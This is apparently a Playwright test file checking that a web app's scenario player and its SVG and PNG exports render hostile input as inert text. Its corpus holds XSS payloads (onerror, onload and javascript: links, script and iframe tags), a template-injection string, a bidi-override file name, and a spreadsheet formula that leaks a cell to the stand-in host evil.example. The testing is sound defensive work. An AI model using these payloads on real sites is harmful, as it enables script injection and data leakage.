// Hostile text: markup, script links, spreadsheet formulas and bidi overrides
// in every user-visible field of a scenario are shown as text — in the player
// and in the SVG and PNG export — and nothing runs. (The CSV and transcript
// exports and the embed are tested where they are built.)
import { readFileSync } from 'node:fs';
import { test, expect, type Page } from '@playwright/test';
import LZString from 'lz-string';
import { ready } from './page';

const CORPUS = [
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(2)>',
  '<a href="javascript:alert(3)">click</a>',
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  '\u202Egnp.exe',
  '<script>alert(4)</script>',
  '"><iframe src=javascript:alert(5)>',
  '{{constructor.constructor(\'alert(6)\')()}}',
];
const all = CORPUS.join(' ');
const text = (i: number) => ({ de: CORPUS[i % CORPUS.length], en: CORPUS[(i + 1) % CORPUS.length] + ' ' + CORPUS[(i + 2) % CORPUS.length] });

/** pop3-three-devices with the corpus in every field a reader sees. */
function hostileScenario(): string {
  const s = JSON.parse(readFileSync('scenarios/pop3-three-devices.json', 'utf8'));
  s.title = { de: all, en: all };
  s.summary = text(1);
  s.world.server.name = '<svg onload=alert(7)>';
  s.world.server.country = '=HYPERLINK("x","y")\u202E';
  s.world.accounts[0].address = 'javascript:alert(8)@example.org';
  s.world.devices.forEach((d: { label?: unknown }, i: number) => (d.label = text(i)));
  s.steps.forEach((step: { note?: unknown; mail?: { subject?: string; from?: string } }, i: number) => {
    step.note = text(i);
    if (step.mail && typeof step.mail === 'object') {
      step.mail.subject = CORPUS[i % CORPUS.length].slice(0, 120);
      if (step.mail.from) step.mail.from = `"onerror=alert(9)"@x.example`;
    }
  });
  for (const v of Object.values(s.variants ?? {}) as { title: unknown }[]) v.title = text(3);
  return JSON.stringify(s);
}

function watch(page: Page) {
  const seen = { dialogs: [] as string[], errors: [] as string[] };
  page.on('dialog', (d) => {
    seen.dialogs.push(d.message());
    void d.dismiss();
  });
  page.on('pageerror', (e) => seen.errors.push(String(e)));
  page.on('console', (m) => {
    if (m.type() === 'error') seen.errors.push(m.text());
  });
  return seen;
}

/** Elements and attributes the corpus would create if it were parsed as markup. */
const INJECTED = `img[src="x"], iframe, script:not([src]), [onerror], [onload], a[href^="javascript:"]`;

for (const lang of ['en', 'de'] as const)
  test(`every field shows the corpus as text and nothing runs (${lang})`, async ({ page }) => {
    const seen = watch(page);
    await page.goto(`/?lang=${lang}&data=${LZString.compressToEncodedURIComponent(hostileScenario())}`);
    await ready(page);
    await expect(page.getByRole('heading', { level: 2 }).first()).toContainText('<img src=x onerror=alert(1)>');
    await expect(page.locator('body')).toContainText('\u202Egnp.exe');
    // Walk every frame, so every note, subject and protocol line is shown once.
    await page.locator('#stage').click();
    for (let i = 0; i < 30; i++) await page.keyboard.press('ArrowRight');
    await page.keyboard.press('t');
    await expect(page.locator('body')).toContainText('=HYPERLINK(');
    await page.keyboard.press('t');
    expect(await page.locator(INJECTED).count()).toBe(0);
    expect(seen.errors, 'errors while playing').toEqual([]);

    // The SVG export: the same text, as text nodes of a standalone SVG.
    const [svgDownload] = await Promise.all([page.waitForEvent('download'), page.getByTestId('export-svg').click()]);
    const svg = readFileSync((await svgDownload.path())!, 'utf8');
    await page.waitForTimeout(200);
    expect(seen.errors, 'errors from the SVG export itself').toEqual([]);
    // The export's own <style> (the page's rules, no user text) and the picture's own font-size
    // style attributes are left out: parsing them here would trip the page's style-src policy,
    // a report from this test's own parsing, not from the app.
    const parsed = await page.evaluate((source) => {
      const doc = new DOMParser().parseFromString(source, 'image/svg+xml');
      const bad = [...doc.querySelectorAll('*')].filter((el) => ['script', 'foreignObject', 'iframe', 'img', 'a'].includes(el.localName) || [...el.attributes].some((a) => /^on/i.test(a.name) || /javascript:/i.test(a.value)));
      return { error: doc.querySelector('parsererror')?.textContent ?? null, bad: bad.map((el) => el.outerHTML.slice(0, 120)), text: doc.documentElement.textContent ?? '' };
    }, svg.replace(/<style>[\s\S]*?<\/style>/, '').replace(/ style="font-size: [\d.]+px;?"/g, ''));
    expect(svg).toMatch(/^<svg[^>]*><style>/);
    expect(parsed.error).toBeNull();
    expect(parsed.bad).toEqual([]);
    expect(parsed.text).toMatch(/<svg onload=alert\(7\)>|onerror=alert|HYPERLINK|gnp\.exe/);

    // The PNG export renders that SVG through an image: still nothing runs.
    const [pngDownload] = await Promise.all([page.waitForEvent('download'), page.getByTestId('export-png').click()]);
    const png = readFileSync((await pngDownload.path())!);
    expect(png.subarray(1, 4).toString('latin1')).toBe('PNG');

    await page.waitForTimeout(300);
    expect(seen.dialogs).toEqual([]);
    expect(seen.errors).toEqual([]);
    expect(await page.evaluate(() => (Object.prototype as Record<string, unknown>).polluted)).toBeUndefined();
  });
